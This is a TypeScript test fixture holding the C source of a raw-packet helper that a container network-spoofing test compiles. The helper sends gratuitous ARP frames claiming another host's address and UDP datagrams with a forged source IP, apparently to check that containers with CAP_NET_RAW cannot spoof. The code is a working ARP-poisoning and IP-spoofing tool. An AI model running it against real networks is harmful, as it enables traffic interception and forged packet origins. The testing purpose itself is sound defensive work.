/**
 * The C source of the raw-packet helper the network-spoofing test builds with gcc (-static) and
 * bind-mounts into the attacking container. Kept as text in a .ts file: a .c file under test/
 * would be picked up (and fail to load) by `uvu test PATTERN` runs.
 */
export const SPOOF_SOURCE = `/*
 * What a root container with CAP_NET_RAW can send: ARP claiming an address that is not its own,
 * and IPv4 packets with a forged source address. Built static by the test and bind-mounted into
 * the attacking container, so it needs nothing from the container's rootfs.
 *
 *   network-spoof arp IFACE CLAIMED_IP TARGET_IP   gratuitous ARP replies + requests for CLAIMED_IP
 *   network-spoof udp SRC_IP DST_IP PORT TEXT      one UDP datagram with IP source SRC_IP
 */
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>

struct arp_frame {
  struct ether_header eth;
  unsigned short htype, ptype;
  unsigned char hlen, plen;
  unsigned short op;
  unsigned char sha[6], spa[4], tha[6], tpa[4];
} __attribute__((packed));

static int die(const char *what) { perror(what); return 1; }

static int send_arp(const char *iface, const char *claimed, const char *target) {
  int fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ARP));
  if (fd < 0) return die("socket(AF_PACKET)");
  struct ifreq ifr = {0};
  strncpy(ifr.ifr_name, iface, IFNAMSIZ - 1);
  if (ioctl(fd, SIOCGIFHWADDR, &ifr) < 0) return die("SIOCGIFHWADDR");
  unsigned char mac[6];
  memcpy(mac, ifr.ifr_hwaddr.sa_data, 6);
  if (ioctl(fd, SIOCGIFINDEX, &ifr) < 0) return die("SIOCGIFINDEX");
  struct sockaddr_ll to = {0};
  to.sll_family = AF_PACKET;
  to.sll_ifindex = ifr.ifr_ifindex;
  to.sll_halen = 6;
  memset(to.sll_addr, 0xff, 6);
  struct in_addr spa, tpa;
  if (!inet_aton(claimed, &spa) || !inet_aton(target, &tpa)) { fprintf(stderr, "bad address\\n"); return 1; }
  for (int round = 0; round < 3; round++) {
    for (int op = 1; op <= 2; op++) {
      struct arp_frame f;
      memset(&f, 0, sizeof f);
      memset(f.eth.ether_dhost, 0xff, 6);
      memcpy(f.eth.ether_shost, mac, 6);
      f.eth.ether_type = htons(ETH_P_ARP);
      f.htype = htons(1);
      f.ptype = htons(ETH_P_IP);
      f.hlen = 6;
      f.plen = 4;
      f.op = htons(op);
      memcpy(f.sha, mac, 6);
      memcpy(f.spa, &spa, 4);
      /* A request asks the target (the gateway) and so makes it learn the sender; a reply is gratuitous. */
      memcpy(f.tpa, op == 1 ? (void *)&tpa : (void *)&spa, 4);
      if (op == 2) memset(f.tha, 0xff, 6);
      if (sendto(fd, &f, sizeof f, 0, (struct sockaddr *)&to, sizeof to) < 0) return die("sendto(arp)");
    }
  }
  printf("sent arp claiming %s\\n", claimed);
  return 0;
}

static int send_udp(const char *src, const char *dst, int port, const char *text) {
  int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
  if (fd < 0) return die("socket(SOCK_RAW)");
  unsigned char packet[1500];
  size_t len = strlen(text);
  if (len > 1000) len = 1000;
  memset(packet, 0, sizeof packet);
  struct iphdr *ip = (struct iphdr *)packet;
  struct udphdr *udp = (struct udphdr *)(packet + sizeof *ip);
  ip->version = 4;
  ip->ihl = 5;
  ip->ttl = 64;
  ip->protocol = IPPROTO_UDP;
  ip->tot_len = htons(sizeof *ip + sizeof *udp + len);
  if (!inet_aton(src, (struct in_addr *)&ip->saddr) || !inet_aton(dst, (struct in_addr *)&ip->daddr)) { fprintf(stderr, "bad address\\n"); return 1; }
  udp->source = htons(40000);
  udp->dest = htons(port);
  udp->len = htons(sizeof *udp + len);
  udp->check = 0; /* optional over IPv4 */
  memcpy(packet + sizeof *ip + sizeof *udp, text, len);
  struct sockaddr_in to = {0};
  to.sin_family = AF_INET;
  to.sin_addr.s_addr = ip->daddr;
  if (sendto(fd, packet, sizeof *ip + sizeof *udp + len, 0, (struct sockaddr *)&to, sizeof to) < 0) return die("sendto(udp)");
  printf("sent udp from %s\\n", src);
  return 0;
}

int main(int argc, char **argv) {
  if (argc == 5 && !strcmp(argv[1], "arp")) return send_arp(argv[2], argv[3], argv[4]);
  if (argc == 6 && !strcmp(argv[1], "udp")) return send_udp(argv[2], argv[3], atoi(argv[4]), argv[5]);
  fprintf(stderr, "usage: network-spoof arp IFACE CLAIMED_IP TARGET_IP | udp SRC DST PORT TEXT\\n");
  return 2;
}
`;
